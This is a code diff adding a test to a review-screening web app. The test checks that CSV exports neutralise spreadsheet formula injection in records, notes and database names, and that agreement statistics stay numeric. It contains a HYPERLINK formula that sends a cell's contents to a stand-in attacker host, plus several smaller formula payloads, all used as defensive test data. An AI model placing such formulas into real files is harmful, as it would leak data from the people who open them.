@@ -106,3 +106,46 @@ def test_the_exports_page_links_every_export(client, review, carol):
     html = client.get(f"/reviews/{review.pk}/exports/").content.decode()
     for part in ("records-all.csv", "records-conflicts.ris", "votes.csv", "agreement.csv", "history.csv"):
         assert part in html
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def every_csv_export(review_id):
+    return [f"/reviews/{review_id}/exports/records-{subset}.csv" for subset in ("all", "included", "excluded")] + [
+        f"/reviews/{review_id}/export/records.csv", f"/reviews/{review_id}/exports/votes.csv",
+        f"/reviews/{review_id}/screening/history.csv", f"/reviews/{review_id}/exports/agreement.csv",
+        f"/reviews/{review_id}/prisma/diagram.csv"]
+
+
+def test_no_csv_export_carries_a_cell_a_spreadsheet_would_run_and_numbers_stay_numbers(client, review, walked,
+                                                                                      carol, alice, bob):
+    """Record fields, a database name, and a reviewer's note and reason that start formulas
+    reach every CSV file only with a single quote in front; kappa stays a number."""
+    from screening.csvfile import _starts_a_formula
+    from screening.models import Import, Record
+
+    Record.objects.filter(pk=walked["medline"][4].pk).update(title=FORMULA, abstract="+1+1", journal="@SUM(A1)")
+    Record.objects.filter(pk=walked["medline"][5].pk).update(title="-2+3", authors=["\t=1+1"])
+    Import.objects.filter(database="Embase").update(database="=Embase")
+    late = add_import(review, 1, label="Late")[0]
+    decisions.record_stages_sync(review=review)
+    for reviewer in (alice, bob):
+        decisions.screening_next(reviewer=reviewer, review=review)
+        decisions.decision_record(reviewer=reviewer, review=review, record=late, verdict="exclude",
+                                  reason="-Wrong population", note=FORMULA)
+    client.force_login(carol)
+    seen = {}
+    for path in every_csv_export(review.pk):
+        response = client.get(path)
+        body = text(response) if response.streaming else response.content.decode()
+        cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+        assert [cell for cell in cells if _starts_a_formula(cell)] == [], path
+        seen[path] = cells
+    records, votes, history, agreement, prisma = (seen[every_csv_export(review.pk)[i]] for i in (0, 4, 5, 6, 7))
+    assert {"'" + FORMULA, "'+1+1", "'@SUM(A1)", "'-2+3", "'\t=1+1"} <= set(records)
+    assert "'" + FORMULA in votes and "'-Wrong population" in votes
+    assert "'" + FORMULA in history
+    assert any(cell.startswith("'=Embase") for cell in prisma)
+    table = list(csv.DictReader(io.StringIO(text(client.get(every_csv_export(review.pk)[6])))))
+    assert all(float(row["kappa"]) <= 1 for row in table if row["kappa"])  # numbers, written as numbers
